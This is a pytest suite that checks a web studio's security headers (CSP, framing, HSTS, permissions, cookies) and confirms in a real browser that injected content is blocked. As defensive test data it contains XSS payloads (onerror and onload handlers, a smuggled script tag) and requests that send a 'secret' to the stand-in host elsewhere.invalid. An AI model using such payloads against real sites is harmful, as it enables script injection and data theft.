"""Laws of what a page may load, who may show it, and what it may ask a browser for; all pages pass by them in a real browser."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, PlainTextResponse, Response
from starlette.routing import Route
from starlette.testclient import TestClient

from core.commands import EditStep
from core.types import PlannedStep
from studio.gate import PAGES
from studio.headers import POLICY, allowing, headers_of
from studio.routes import middleware
from tests.studio.chromium import visit
from tests.studio.open_studio import Studio, ask, finished

HUGGING = "https://huggingface.co"
CSP = "content-security-policy"
SMUGGLED = "<script>smuggled()</script>"


def client(html: str, scheme: str = "http", shared: bool = False, ancestors: tuple[str, ...] = ()) -> TestClient:
    """A browser before a page with this markup, and an address that is no page."""

    def page(request: Request) -> Response:
        return HTMLResponse(html)

    def other(request: Request) -> Response:
        return PlainTextResponse("plain")

    routes = [Route("/", page), Route("/other", other)]
    return TestClient(Starlette(routes=routes, middleware=middleware(shared, ancestors)), base_url=f"{scheme}://studio.test")


def sources(policy: str, what: str) -> list[str]:
    return next(rule.split()[1:] for rule in policy.split("; ") if rule.split()[0] == what)


def test_all_that_is_not_named_is_forbidden_and_nothing_comes_from_elsewhere() -> None:
    policy = headers_of(secure=False)["Content-Security-Policy"]
    assert sources(policy, "default-src") == ["'self'"]
    assert sources(policy, "object-src") == sources(policy, "frame-src") == ["'none'"]
    assert "'unsafe-inline'" not in sources(policy, "script-src")
    for what in POLICY:
        assert not [source for source in sources(policy, what) if "*" in source or "//" in source or source == "https:"], what


def test_only_the_inline_scripts_that_a_page_came_with_may_run() -> None:
    plain = headers_of(secure=False)["Content-Security-Policy"]
    assert allowing(plain, '<p>no script</p><script type="module" src="x.js"></script>') == plain
    # The first hash is what this says: printf 'one()' | openssl dgst -sha256 -binary | base64
    allowed = sources(allowing(plain, "<script>one()</script><script data-x>two()</script><script>one()</script>"), "script-src")
    assert allowed[:2] == ["'self'", "'sha256-HR7iaask9daLMRRskMI++QeJtjWDOjyPA6lGzYGzKW4='"]
    assert (len(allowed), allowed[-1]) == (4, "'unsafe-eval'")


def test_a_page_arrives_whole_with_the_hashes_of_its_own_scripts_and_other_answers_without_any() -> None:
    html = "<p>é</p>" + SMUGGLED * 3
    answer = client(html).get("/")
    assert answer.text == html
    assert answer.headers[CSP].count("'sha256-") == 1
    assert "sha256" not in client(html).get("/other").headers[CSP]


@pytest.mark.parametrize("ancestors", [(), (HUGGING,)])
def test_only_sites_that_are_named_may_show_the_studio_in_a_frame(ancestors: tuple[str, ...]) -> None:
    headers = client("", ancestors=ancestors).get("/").headers
    assert sources(headers[CSP], "frame-ancestors") == ["'self'", *ancestors]
    assert headers.get("x-frame-options") == (None if ancestors else "SAMEORIGIN")


def test_browsers_are_told_to_stay_with_https_only_where_they_came_by_it() -> None:
    assert "strict-transport-security" not in client("").get("/").headers
    assert client("", "https").get("/").headers["strict-transport-security"] == "max-age=31536000"


def test_a_page_may_use_the_camera_and_nothing_else_of_the_machine() -> None:
    rules = dict(rule.split("=") for rule in client("").get("/").headers["permissions-policy"].split(", "))
    assert rules["camera"] == "(self)"
    assert {rules[what] for what in ("microphone", "geolocation", "usb", "payment", "display-capture")} == {"()"}


@pytest.mark.parametrize(
    ("scheme", "ancestors", "site"),
    [("http", (), "Lax"), ("https", (), "Lax; Secure"), ("http", (HUGGING,), "Lax"), ("https", (HUGGING,), "None; Secure")],
)
def test_a_guests_cookie_goes_to_other_sites_frames_only_where_they_are_named(
    scheme: str, ancestors: tuple[str, ...], site: str
) -> None:
    given = client("", scheme, shared=True, ancestors=ancestors).get("/").headers["set-cookie"]
    assert given.endswith(f"Path=/; Max-Age=31536000; HttpOnly; SameSite={site}")


@pytest.mark.browser
def test_every_page_works_within_its_policy_and_what_is_smuggled_in_does_not_run(studio: Studio) -> None:
    with studio.page() as page:  # which fails if anything is refused
        story = ask(page)
        finished(page)
        page.locator("[data-do=show-book]").click()
        expect(page.locator("[data-part=reading]").first).to_be_visible()
        for address in sorted(PAGES - {"/"}):
            page.goto(studio.url + address[1:])
            page.wait_for_selector("body[data-screen]")
            page.wait_for_load_state("networkidle")
        words = PlannedStep(title="<img src=x onerror='window.hurt=1'>", caption="<svg onload='window.hurt=1'>")
        studio.house.send(story, EditStep(step="s4", words=words))
        page.goto(f"{studio.url}?story={story}")
        expect(page.get_by_text("onerror=").first).to_be_visible()
    with studio.visitors.visitor(studio.url) as visitor:
        page = visitor.new_page()
        page.add_init_script(
            "window.refused = [];"
            "document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));"
        )
        visit(page, studio.url)
        assert page.evaluate("window.refused") == []
        page.evaluate("document.body.insertAdjacentHTML('beforeend', `<img src='data:,x' onerror='window.hurt = 1'>`)")
        page.evaluate("document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.hurt = 1' }))")
        page.evaluate("document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.invalid/?secret' }))")
        page.evaluate("fetch('https://elsewhere.invalid/').catch(() => 0)")
        page.wait_for_function("window.refused.length >= 4")
        assert sorted(page.evaluate("window.refused")) == ["connect-src", "img-src", "script-src-attr", "script-src-elem"]
        assert page.evaluate("window.hurt") is None
